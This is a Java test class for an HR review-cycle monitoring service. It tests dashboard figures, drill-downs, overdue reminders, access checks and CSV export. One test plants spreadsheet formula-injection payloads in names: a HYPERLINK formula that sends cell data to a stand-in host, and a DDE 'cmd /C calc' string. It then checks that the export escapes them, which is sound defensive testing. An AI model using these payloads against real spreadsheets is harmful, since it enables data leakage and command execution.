package nl.gesprekscyclus.monitoring;

import static nl.gesprekscyclus.monitoring.MonitoringFixture.EL_AMRANI;
import static nl.gesprekscyclus.monitoring.MonitoringFixture.LAST_YEAR;
import static nl.gesprekscyclus.monitoring.MonitoringFixture.NIJLAND;
import static nl.gesprekscyclus.monitoring.MonitoringFixture.RAMDIN;
import static nl.gesprekscyclus.monitoring.MonitoringFixture.YEAR;
import static nl.gesprekscyclus.monitoring.ReviewStatus.DONE;
import static nl.gesprekscyclus.monitoring.ReviewStatus.IN_PROGRESS;
import static nl.gesprekscyclus.monitoring.ReviewStatus.NOT_STARTED;
import static nl.gesprekscyclus.monitoring.ReviewStatus.OVERDUE;
import static nl.gesprekscyclus.review.ReviewPhase.ASSESSMENT;
import static nl.gesprekscyclus.review.ReviewPhase.PLANNING;
import static nl.gesprekscyclus.review.ReviewPhase.PROGRESS;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Arrays;
import java.util.List;
import java.util.Map;
import nl.gesprekscyclus.notification.Notification;
import nl.gesprekscyclus.notification.NotificationKind;
import nl.gesprekscyclus.notification.Notifications;
import nl.gesprekscyclus.organisation.OrganisationDirectory;
import nl.gesprekscyclus.review.ReviewTask;
import nl.gesprekscyclus.test_support.DatabaseTest;
import nl.gesprekscyclus.test_support.DemoUsers;
import nl.gesprekscyclus.test_support.Login;
import nl.gesprekscyclus.test_support.ProcessDriver;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.security.core.userdetails.UserDetailsService;

/**
 * The dashboard's figures, drill-down and reminders for the fixture's rounds 2033 and 2034
 * ({@link MonitoringFixture}), counted by the database with the engine's clock where the fixture says.
 */
@DatabaseTest
class MonitoringServiceTests {

    @Autowired
    ApplicationContext context;
    @Autowired
    UserDetailsService users;
    @Autowired
    MonitoringService monitoring;
    @Autowired
    Notifications notifications;
    @Autowired
    OrganisationDirectory directory;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    ReviewListExport export;

    ProcessDriver driver;

    @BeforeEach
    void fixture() {
        MonitoringFixture.ensure(context);
        driver = MonitoringFixture.driver(context);
        Login.as(users, DemoUsers.HR);
    }

    @AfterEach
    void reset() {
        driver.resetClock();
        Login.logout();
    }

    long round(int year) {
        return monitoring.round(year).orElseThrow().id();
    }

    long unit(String code) {
        return jdbc.queryForObject("select id from org_unit where code = ?", Long.class, code);
    }

    @Test
    void shouldCountEachPhaseByStatusInJune2033() {
        driver.moveClockTo(MonitoringFixture.JUNE_2033);
        ProgressFigures figures = monitoring.figures(new MonitoringScope(round(LAST_YEAR), null, null));

        assertThat(counts(figures, PLANNING, null)).containsExactly(0, 0, 1, 2); // Ramdin late; Nijland, El Amrani done
        assertThat(counts(figures, PROGRESS, null)).containsExactly(2, 1, 0, 0); // Nijland reflecting
        assertThat(counts(figures, ASSESSMENT, null)).containsExactly(3, 0, 0, 0);
        assertThat(figures.total(null)).isEqualTo(3);
        // per unit: Nijland is in regie-en-coordinatie, Ramdin in concern-en-ondersteuning
        assertThat(counts(figures, PLANNING, unit("regie-en-coordinatie"))).containsExactly(0, 0, 0, 1);
        assertThat(counts(figures, PLANNING, unit("concern-en-ondersteuning"))).containsExactly(0, 0, 1, 0);
    }

    @Test
    void shouldJudgeOverdueByTheEngineClock() {
        // on 1 February nothing was late yet: Ramdin's drafts were due on 1 March
        driver.moveClockTo(java.time.LocalDate.of(2033, 2, 1));
        ProgressFigures early = monitoring.figures(new MonitoringScope(round(LAST_YEAR), null, null));
        assertThat(early.count(PLANNING, null, OVERDUE)).isZero();
    }

    @Test
    void shouldFilterByUnitAndCoordinator() {
        driver.moveClockTo(MonitoringFixture.JUNE_2033);
        long round = round(LAST_YEAR);
        ProgressFigures regie = monitoring.figures(new MonitoringScope(round, unit("regie-en-coordinatie"), null));
        assertThat(regie.total(null)).isEqualTo(1);
        assertThat(counts(regie, PROGRESS, null)).containsExactly(0, 1, 0, 0);

        long meer = directory.employeeByPersonnelNumber("100008").orElseThrow().id();
        assertThat(monitoring.coordinators(round)).extracting(MonitoringService.Option::name)
                .contains("Jeroen van der Meer");
        ProgressFigures coordinated = monitoring.figures(new MonitoringScope(round, null, meer));
        assertThat(counts(coordinated, PLANNING, null)).containsExactly(0, 0, 0, 1); // El Amrani only
    }

    @Test
    void shouldListTheReviewsBehindAFigureWithTaskAssigneeAndDueDate() {
        driver.moveClockTo(MonitoringFixture.JUNE_2033);
        MonitoringScope scope = new MonitoringScope(round(LAST_YEAR), null, null);

        DrillDown late = new DrillDown(scope, PLANNING, OVERDUE);
        assertThat(monitoring.count(late)).isEqualTo(1);
        MonitoredReview ramdin = monitoring.reviews(late, 0, 50).get(0);
        assertThat(ramdin.employeeName()).isEqualTo("Priya Ramdin");
        assertThat(ramdin.personnelNumber()).isEqualTo(RAMDIN);
        assertThat(ramdin.currentTask()).isEqualTo(ReviewTask.DRAFT_AGREEMENTS);
        assertThat(ramdin.assigneeName()).isEqualTo("Priya Ramdin");
        assertThat(ramdin.due()).isNotNull();
        assertThat(ramdin.due().atZone(java.time.ZoneId.systemDefault()).toLocalDate())
                .isEqualTo(java.time.LocalDate.of(2033, 3, 1));
        assertThat(ramdin.overdue()).isTrue();

        DrillDown done = new DrillDown(scope, PLANNING, DONE);
        List<MonitoredReview> finished = monitoring.reviews(done, 0, 50);
        assertThat(finished).extracting(MonitoredReview::personnelNumber).containsExactly(EL_AMRANI, NIJLAND);
        assertThat(finished.get(0).currentTask()).isNull(); // waiting for the progress window
        assertThat(finished.get(1).currentTask()).isEqualTo(ReviewTask.SELF_REFLECTION);
        assertThat(finished).allMatch(r -> r.status() == DONE);

        // paged by the database: the second page of one holds the other
        assertThat(monitoring.reviews(done, 1, 1)).extracting(MonitoredReview::personnelNumber)
                .containsExactly(NIJLAND);
        assertThat(monitoring.count(new DrillDown(scope, PROGRESS, NOT_STARTED))).isEqualTo(2);
        assertThat(monitoring.count(new DrillDown(scope, PROGRESS, IN_PROGRESS))).isEqualTo(1);
    }

    @Test
    void shouldShowStatusOnlyNeverContent() {
        // the line of a drill-down has no field for agreements, input, ratings, scores or the assessment
        assertThat(Arrays.stream(MonitoredReview.class.getRecordComponents()).map(c -> c.getName()))
                .containsExactly("reviewId", "processKey", "personnelNumber", "employeeName", "unitName", "phase",
                        "status", "currentTask", "assigneeName", "due", "overdue", "position");
        // the place in the order (to read the page after a line) is the name already shown and the review's id
        assertThat(Arrays.stream(MonitoredReview.Position.class.getRecordComponents()).map(c -> c.getName()))
                .containsExactly("lastName", "firstName", "reviewId");
    }

    @Test
    void shouldRemindThePeopleWithOverdueTasksOncePerDay() {
        driver.moveClockTo(MonitoringFixture.JUNE_2033);
        long ramdin = MonitoringFixture.reviewId(context, LAST_YEAR, RAMDIN);
        long nijland = MonitoringFixture.reviewId(context, LAST_YEAR, NIJLAND);
        long before = reminders(ramdin).size();

        int sent = monitoring.remindOverdue(List.of(ramdin, nijland)); // Nijland is not late: nobody reminded
        int again = monitoring.remindOverdue(List.of(ramdin));

        assertThat(sent).isEqualTo(1);
        assertThat(again).isZero();
        List<Notification> reminders = reminders(ramdin);
        assertThat(reminders).hasSize((int) before + 1);
        Notification reminder = reminders.get(reminders.size() - 1);
        assertThat(reminder.getRecipientEmployeeId())
                .isEqualTo(directory.employeeByPersonnelNumber(RAMDIN).orElseThrow().id());
        assertThat(reminder.getTaskKey()).isEqualTo("draftAgreements");
        assertThat(reminders(nijland)).isEmpty();
        assertThat(jdbc.queryForObject("select count(*) from audit_event where action = 'monitoring.remind'"
                + " and actor = 'berg'", Long.class)).isPositive();
    }

    @Test
    void shouldCompareCompletionOverTimeWithLastYear() {
        driver.moveClockTo(MonitoringFixture.FEBRUARY_2034);
        CompletionSeries current = monitoring.completion(YEAR, null, null).orElseThrow();
        CompletionSeries previous = monitoring.completion(LAST_YEAR, null, null).orElseThrow();

        // Wolters finished her planning on 10 February 2034: week 6 (index 5) of the round
        assertThat(current.weeks()).isEqualTo(6);
        assertThat(current.finished(PLANNING, 4)).isZero();
        assertThat(current.finished(PLANNING, 5)).isEqualTo(1);
        assertThat(current.finished(PROGRESS, 5)).isZero();
        // 2033: Nijland and El Amrani on 15 February (index 6); the whole year is shown
        assertThat(previous.finished(PLANNING, 5)).isZero();
        assertThat(previous.finished(PLANNING, 6)).isEqualTo(2);
        assertThat(previous.weeks()).isGreaterThan(50);
        // Nijland's progress phase is not finished
        assertThat(previous.finished(PROGRESS, previous.weeks() - 1)).isZero();
    }

    /**
     * Names come from the HR system's file and the admin's form: one that starts like a formula must reach the
     * spreadsheet as text (OWASP CSV injection), every sign a spreadsheet takes for a formula, in every column that
     * holds one (employee, unit, assignee).
     */
    @Test
    void shouldWriteNamesThatLookLikeFormulasAsTextInTheCsv() throws Exception {
        driver.moveClockTo(MonitoringFixture.JUNE_2033);
        MonitoringScope scope = new MonitoringScope(round(LAST_YEAR), null, null);
        String hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")";
        Map<String, String> firstNames = new java.util.LinkedHashMap<>();
        for (String number : List.of(RAMDIN, NIJLAND, EL_AMRANI)) {
            firstNames.put(number, jdbc.queryForObject("select first_name from employee where personnel_number = ?",
                    String.class, number));
        }
        long concern = unit("concern-en-ondersteuning");
        String unitName = jdbc.queryForObject("select name from org_unit where id = ?", String.class, concern);
        try {
            setFirstName(RAMDIN, hyperlink);
            setFirstName(NIJLAND, "-Anna");
            setFirstName(EL_AMRANI, " @SUM(1+1)");
            jdbc.update("update org_unit set name = ? where id = ?", "+31 cmd|' /C calc'!A0", concern);

            List<List<String>> rows = new java.util.ArrayList<>();
            for (ReviewStatus status : List.of(OVERDUE, DONE)) {
                java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
                export.csv(new DrillDown(scope, PLANNING, status), key -> key, java.time.ZoneId.systemDefault(), out);
                byte[] bytes = out.toByteArray();
                org.apache.commons.csv.CSVFormat.DEFAULT.builder().setDelimiter(';').get()
                        .parse(new java.io.InputStreamReader(new java.io.ByteArrayInputStream(bytes, 3, bytes.length - 3),
                                java.nio.charset.StandardCharsets.UTF_8))
                        .getRecords().stream().skip(1).forEach(r -> rows.add(r.toList()));
            }

            // employee (1) and assignee (6) of Ramdin, who is late with her own task
            List<String> ramdin = rows.stream().filter(r -> r.get(0).equals(RAMDIN)).findFirst().orElseThrow();
            assertThat(ramdin.get(1)).isEqualTo("'" + hyperlink + " Ramdin");
            assertThat(ramdin.get(6)).isEqualTo("'" + hyperlink + " Ramdin");
            assertThat(rows.stream().filter(r -> r.get(0).equals(NIJLAND)).findFirst().orElseThrow().get(1))
                    .isEqualTo("'-Anna Nijland");
            assertThat(rows.stream().filter(r -> r.get(0).equals(EL_AMRANI)).findFirst().orElseThrow().get(1))
                    .startsWith("' @SUM(1+1) ");
            assertThat(rows).filteredOn(r -> r.get(2).contains("cmd")).isNotEmpty()
                    .allSatisfy(r -> assertThat(r.get(2)).isEqualTo("'+31 cmd|' /C calc'!A0"));
            // no cell of the file starts as a formula
            assertThat(rows).allSatisfy(r -> assertThat(r).noneMatch(cell -> cell.strip().matches("^[=+\\-@].*")));
        } finally {
            firstNames.forEach(this::setFirstName);
            jdbc.update("update org_unit set name = ? where id = ?", unitName, concern);
        }
    }

    private void setFirstName(String personnelNumber, String firstName) {
        jdbc.update("update employee set first_name = ? where personnel_number = ?", firstName, personnelNumber);
    }

    @Test
    void shouldRefuseAnyoneButHr() {
        Login.as(users, DemoUsers.MANAGER);
        assertThatThrownBy(() -> monitoring.figures(new MonitoringScope(1, null, null)))
                .isInstanceOf(AccessDeniedException.class);
        assertThatThrownBy(() -> monitoring.remindOverdue(List.of(1L))).isInstanceOf(AccessDeniedException.class);
    }

    private List<Notification> reminders(long reviewId) {
        return notifications.ofReview(reviewId).stream().filter(n -> n.getKind() == NotificationKind.REMINDER)
                .toList();
    }

    private static List<Integer> counts(ProgressFigures figures, nl.gesprekscyclus.review.ReviewPhase phase,
            Long unit) {
        return Arrays.stream(ReviewStatus.values()).map(s -> (int) figures.count(phase, unit, s)).toList();
    }

}
